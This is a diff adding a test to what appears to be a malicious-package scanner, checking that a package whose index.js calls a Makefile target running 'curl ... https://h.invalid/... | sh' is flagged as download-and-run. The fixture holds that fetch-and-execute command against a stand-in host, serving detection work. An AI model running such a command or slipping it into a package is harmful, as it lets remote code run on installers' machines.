@@ -35,6 +35,30 @@ describe('commands', () => {
       assert.deepEqual(sent(command), [], command);
   });
 
+  it('make what a makefile of the package says', () => {
+    const Makefile = 'all:\n\tcc -c a.c\nget:\n\t@curl -fsSL https://h.invalid/$$(uname -m) | sh\nself:\n\tmake self';
+    const kinds = (code: string): readonly string[] =>
+      analysePackage(
+        packageOf({
+          'package.json': '{"main":"index.js"}',
+          'index.js': `const cp = require('child_process'), path = require('path');${code}`,
+          'native/Makefile': Makefile,
+        }),
+      ).behaviours.map(({ kind }) => kind);
+    for (const code of [
+      `cp.execSync('make -s -C native get');`,
+      `cp.execSync('cd /tmp; make -C ' + path.join(__dirname, 'native') + ' get');`,
+      `cp.spawnSync('make', ['-f', 'native/Makefile', 'get'], { stdio: 'ignore' });`,
+    ])
+      assert.deepEqual(kinds(code), ['download-and-run'], code);
+    for (const code of [
+      `cp.execSync('make -C native');`,
+      `cp.execSync('make -C native self');`,
+      `cp.execSync('make');`,
+    ])
+      assert.deepEqual(kinds(code), [], code);
+  });
+
   it('are run by what reads code from its input, and not by what has a program of its own', () => {
     const download = (started: string) =>
       flowsOf(
